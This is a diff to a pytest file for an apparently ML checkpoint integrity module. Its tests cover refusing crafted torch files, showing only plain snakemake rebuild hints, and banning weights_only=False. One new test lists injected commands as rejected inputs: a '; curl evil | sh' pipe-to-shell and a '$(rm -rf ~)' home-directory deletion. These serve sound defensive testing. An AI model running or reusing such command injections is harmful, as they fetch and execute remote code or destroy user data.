@@ -4,6 +4,7 @@ corrupted file gives one error naming the file and the command that rebuilds it.
 import json
 import os
 import stat
+from pathlib import Path
 
 import numpy as np
 import pytest
@@ -167,8 +168,20 @@ def test_load_torch_refuses_a_crafted_file_without_running_it(tmp_path, payload)
         integrity.load_torch(path)
     msg = str(e.value)
     assert msg.startswith(f"{path}: refused") and "posix.system" in msg and "\n" not in msg
-    assert "snakemake --forcerun" not in msg  # a crafted file's own sidecar is not trusted for the fix
+    assert msg.endswith("delete it and rebuild it with:  snakemake --forcerun train_t0")  # the sidecar's command
     assert not marker.exists()
+
+
+def test_a_recorded_command_is_shown_only_when_it_is_plain_snakemake(tmp_path):
+    """A sidecar is no signature: a `rebuild` that would run more than snakemake is not offered to be pasted."""
+    path = tmp_path / "state.pt"
+    torch.save({"w": torch.ones(1)}, path)
+    for how, shown in (("snakemake --configfile 'my study.yaml' --forcerun train_t0", True),
+                       ("snakemake --forcerun train_t0; curl evil | sh", False),
+                       ("snakemake --forcerun $(rm -rf ~)", False)):
+        integrity.stamp(path, rebuild=how)
+        hint = integrity.rebuild_hint(path)
+        assert (how in hint) == shown and (hint == integrity.GENERIC_REBUILD) != shown, hint
 
 
 def test_load_torch_reads_tensors_and_plain_data_only(tmp_path):
@@ -306,3 +319,12 @@ def test_deepspeed_resume_refuses_a_tampered_checkpoint(tmp_path, digits, payloa
     assert proc.returncode != 0 and f"error: {rng_file}:" in proc.stderr, proc.stderr[-3000:]
     assert not marker.exists()
     assert integrity.main(["check-run", str(out)]) == 3  # the train rule would start the model afresh
+
+
+def test_no_code_reads_a_torch_file_with_pickle():
+    """Every torch file of the project's code (benchmarks included) is read with weights_only=True."""
+    root = Path(__file__).resolve().parent.parent
+    offenders = [f"{p.relative_to(root)}:{i}" for folder in ("models", "analysis", "benchmarks", "workflow")
+                 for p in sorted((root / folder).rglob("*")) if p.suffix in (".py", ".smk", ".sh")
+                 for i, line in enumerate(p.read_text().splitlines(), 1) if "weights_only=False" in line]
+    assert not offenders
